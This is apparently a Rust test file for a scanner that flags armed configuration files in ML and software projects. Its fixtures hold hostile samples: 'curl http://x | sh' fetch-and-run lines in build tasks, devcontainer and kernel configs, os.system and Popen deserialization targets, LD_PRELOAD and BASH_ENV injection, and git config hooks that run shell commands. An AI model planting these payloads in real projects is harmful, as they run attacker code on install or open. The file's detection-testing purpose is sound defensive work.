//! What frameworks, package managers, editors and shells act upon: ordinary files are clean, armed ones are told.

use super::tests::{clean, has, read};

// proves M10
#[test]
fn classes_and_code_that_frameworks_import_by_name_are_told() {
    for (name, text) in [
        (
            "config.json",
            r#"{"model":{"type":"lstm","name":"encoder","class":"Encoder"},"handler":"image_classifier"}"#,
        ),
        (
            "config.json",
            r#"{"type":"torch.nn.Linear","factory":"sklearn.linear_model.LogisticRegression"}"#,
        ),
        ("catalog.yml", "loans:\n  type: pandas.CSVDataset\n  filepath: data/loans.csv\n"),
        (
            "logging.yaml",
            "version: 1\nhandlers:\n  console:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n",
        ),
        (
            "inference.json",
            r#"{"device":"$torch.device('cpu')","network":"$@network_def.to(@device)","x":"$[1, 2]"}"#,
        ),
        (
            "part-00000",
            r#"{"class":"org.apache.spark.ml.PipelineModel","timestamp":1,"uid":"x","paramMap":{}}"#,
        ),
        (
            "croissant.json",
            r#"{"@context":{"@vocab":"https://schema.org/"},"@type":"sc:Dataset","name":"x"}"#,
        ),
        (
            "genai_config.json",
            r#"{"model":{"decoder":{"session_options":{"log_id":"x","provider_options":[]}}}}"#,
        ),
        (".zarray", r#"{"filters":null,"compressor":{"id":"blosc"},"dtype":"<f4"}"#),
        (
            "great_expectations.yml",
            "stores:\n  x:\n    class_name: ExpectationsStore\n    module_name: great_expectations.data_context.store\n",
        ),
        ("deploy.prototxt", "layer { name: \"conv1\" type: \"Convolution\" }\n"),
        ("pickle_module_info.txt", "mlflow.pytorch.pickle_module"),
        (
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    env: {conda: conda.yaml}\n",
        ),
    ] {
        clean(name, text);
    }
    for (name, text, rule) in [
        (
            "config.json",
            r#"{"model":{"type":"subprocess.Popen","args":["true"]}}"#,
            "target-dangerous",
        ),
        ("config.yml", "pipeline:\n- name: os.system\n", "target-dangerous"),
        ("logging.yaml", "formatters:\n  x:\n    (): os.system\n", "target-dangerous"),
        ("logging.json", r#"{"filters":{"x":{"()":"ext://os.system"}}}"#, "target-dangerous"),
        (
            "ge.yml",
            "stores:\n  x:\n    class_name: Popen\n    module_name: subprocess\n",
            "target-dangerous",
        ),
        ("MANIFEST.json", r#"{"model":{"handler":"os:system"}}"#, "target-dangerous"),
        (
            "part-00000",
            r#"{"class":"evil.Stage","timestamp":1,"uid":"x","paramMap":{}}"#,
            "target-unknown",
        ),
        ("inference.json", r#"{"x":"$__import__('os').system('true')"}"#, "target-dangerous"),
        ("inference.json", r#"{"imports":["$import subprocess"]}"#, "target-dangerous"),
        ("config.yaml", "custom_imports:\n  imports: [evil]\n", "target-unknown"),
        ("cookiecutter.json", r#"{"_extensions":["os.system"]}"#, "target-dangerous"),
        (
            "jupyter_server_config.json",
            r#"{"ServerApp":{"jpserver_extensions":{"evil":true}}}"#,
            "target-unknown",
        ),
        (
            "deploy.prototxt",
            "layer { type: \"Python\" python_param { module: \"os\" layer: \"X\" } }",
            "target-",
        ),
        ("pickle_module_info.txt", "evil_pickle\n", "target-unknown"),
        ("x.xml", "<object class=\"java.lang.ProcessBuilder\"/>", "target-dangerous"),
        ("c.json", r#"{"@class":"com.sun.rowset.JdbcRowSetImpl"}"#, "json-pickle"),
        (
            "c.json",
            r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}"#,
            "json-pickle",
        ),
        (".zarray", r#"{"filters":[{"id":"pickle"}]}"#, "json-pickle"),
        ("config.yaml", "common:\n  user_dir: ./evil\n", "remote-code"),
        (
            "genai_config.json",
            r#"{"session_options":{"custom_ops_library":"x.so"}}"#,
            "remote-code",
        ),
        ("workspace.yaml", "load_from:\n- python_file: evil.txt\n", "remote-code"),
        ("config.yaml", "_BASE_: https://x.example/base.yaml\n", "onnx-external-path"),
        ("state.json", r#"{"_data_files":[{"filename":"../../x.arrow"}]}"#, "onnx-external-path"),
        ("MLmodel", "flavors:\n  sklearn:\n    pickled_model: ../../x.pkl\n", "onnx-external-path"),
        ("x.rdf", "<!DOCTYPE x SYSTEM \"http://x.example/x.dtd\"><x/>", "xml-entity"),
    ] {
        let rules = read(name, text).rules();
        let wanted = format!("artifact/{rule}");
        assert!(rules.iter().any(|found| found.starts_with(&wanted)), "{name}: {text}: {rules:?}");
    }
    assert!(!read("x.rds", "A\n3\n263168\n197888\n").is_clean());
}

// proves M10
#[test]
fn what_projects_editors_and_shells_run_is_told() {
    for (name, text) in [
        (
            "pyproject.toml",
            "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n[project]\ndependencies = [\"requests>=2\", \"httpx\", \"cffi\"]\n[tool.hatch.build]\ninclude = [\"x\"]\n",
        ),
        ("setup.cfg", "[metadata]\nname = x\n[options]\ninstall_requires =\n    numpy\n"),
        (
            "kernel.json",
            r#"{"argv":["python","-m","ipykernel_launcher","-f","{connection_file}"],"language":"python"}"#,
        ),
        (
            "settings.json",
            r#"{"python.defaultInterpreterPath":"/usr/bin/python3","editor.tabSize":4}"#,
        ),
        ("conda.yaml", "dependencies: [python]\nvariables:\n  OMP_NUM_THREADS: 1\n"),
        (".env", "MODEL=credit\nexport LOG_LEVEL=info\nPIP_INDEX_URL=https://pypi.org/simple\n"),
        ("uwsgi.ini", "[uwsgi]\nmodule = app\n"),
        ("notes.txt", "run it, then look at install and start\n"),
    ] {
        clean(name, text);
    }
    let shell = "curl http://x | sh";
    for (name, text, rule) in [
        (
            "pyproject.toml",
            "[build-system]\nbuild-backend = \"evil\"\nbackend-path = [\".\"]\n".to_owned(),
            "remote-code",
        ),
        (
            "pyproject.toml",
            "[tool.setuptools.cmdclass]\nbuild = \"evil.Build\"\n".to_owned(),
            "remote-code",
        ),
        ("setup.cfg", "[options]\ncmdclass =\n    build = evil.Build\n".to_owned(), "remote-code"),
        ("pixi.toml", "[activation]\nscripts = [\"evil.sh\"]\n".to_owned(), "remote-code"),
        ("pixi.toml", format!("[tasks]\nx = \"{shell}\"\n"), "script-reaches"),
        ("supervisord.conf", format!("[program:x]\ncommand=sh -c '{shell}'\n"), "script-reaches"),
        (
            "logging.ini",
            "[handler_x]\nargs=(__import__('os').system('true'),)\n".to_owned(),
            "script-reaches",
        ),
        (
            "mcp.json",
            r#"{"servers":{"x":{"command":"npx","args":["-y","evil"]}}}"#.to_owned(),
            "script-reaches",
        ),
        (".mcp.json", r#"{"mcpServers":{"x":{"command":"npx"}}}"#.to_owned(), "script-reaches"),
        (
            "devcontainer.json",
            format!(r#"{{"onCreateCommand":{{"a":"{shell}"}}}}"#),
            "script-reaches",
        ),
        ("kernel.json", format!(r#"{{"argv":["sh","-c","{shell}"]}}"#), "script-reaches"),
        (
            "settings.json",
            r#"{"terminal.integrated.env.linux":{"LD_PRELOAD":"./x.so"}}"#.to_owned(),
            "script-reaches",
        ),
        ("copier.yml", format!("_tasks:\n- {shell}\n"), "script-reaches"),
        (
            "conda.yaml",
            "dependencies: [python]\nvariables:\n  PYTHONSTARTUP: ./x.txt\n".to_owned(),
            "script-reaches",
        ),
        (
            "compose.yaml",
            "services:\n  a:\n    environment:\n    - LD_PRELOAD=./x.so\n".to_owned(),
            "script-reaches",
        ),
        (".env", "export BASH_ENV=./x\n".to_owned(), "script-reaches"),
        (".env", "PIP_INDEX_URL=https://x.example/simple\n".to_owned(), "foreign-index"),
        ("config", "Host *\n  ProxyCommand sh -c true\n".to_owned(), "script-reaches"),
        ("x.plist", "<plist><key>ProgramArguments</key></plist>".to_owned(), "script-reaches"),
        ("Snakefile", format!("shell: \"{shell}\"\n"), "script"),
        (".pdbrc", "import os; os.system('true')\n".to_owned(), "script-reaches"),
        ("install", shell.to_owned(), "script-reaches"),
    ] {
        has(name, &text, rule);
    }
}

// proves M10
#[test]
fn what_git_is_configured_to_run_is_told_however_it_is_spelled() {
    clean(
        ".git/config",
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = https://huggingface.co/a/b\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n[lfs]\n\trepositoryformatversion = 0\n[filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n[credential]\n\thelper = store\n",
    );
    clean(
        ".gitmodules",
        "[submodule \"x\"]\n\tpath = x\n\turl = https://x.example/x\n\tupdate = rebase\n",
    );
    for text in [
        "[core]\n[include]\n\tpath = ../settings.txt\n",
        "[includeIf \"gitdir:/\"]\n\tpath = ../x\n",
        "[CORE]\n\tfsmonitor = sh -c true\n",
        "[core ]\n\tsshCommand = sh -c true\n",
        "[core] fsmonitor = sh -c true\n",
        "[core]\n\tfsmon\\\nitor = sh -c true\n",
        "[user]\n\tname = a\n[credential]\n\thelper = /tmp/x\n",
        "[diff]\n\texternal = /tmp/x\n",
        "[gpg]\n\tprogram = /tmp/x\n",
        "[merge \"x\"]\n\tdriver = sh -c true\n",
        "[remote \"origin\"]\n\turl = ext::sh -c true\n",
        "[alias]\n\tst = !true\n",
    ] {
        has(".git/config", text, "script-reaches");
    }
    has(".git/config.worktree", "[core]\n\thooksPath = /tmp/h\n", "script-reaches");
    has(".gitmodules", "[submodule \"x\"]\n\tupdate = !true\n", "script-reaches");
}
